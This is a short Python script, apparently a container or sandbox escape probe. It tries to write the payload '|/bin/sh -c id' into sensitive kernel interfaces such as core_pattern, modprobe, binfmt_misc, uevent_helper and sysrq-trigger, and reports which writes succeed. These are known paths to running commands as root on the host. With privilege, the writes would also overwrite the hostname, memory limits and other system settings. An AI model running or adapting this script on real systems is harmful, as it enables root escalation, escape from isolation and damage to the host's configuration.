"""Writes settings of the kernel, some of which run a program of its choice as root."""
import errno

for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
             "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
             "/proc/self/uid_map", "/proc/self/gid_map", "/proc/self/setgroups", "/proc/1/oom_score_adj", "/sys/fs/cgroup/memory.max"):
    try:
        with open(path, "r+b", buffering=0) as file:
            file.write(b"|/bin/sh -c id\n")
        print(path, "-> GOT THROUGH")
    except OSError as error:
        print(path, "->", errno.errorcode.get(error.errno))
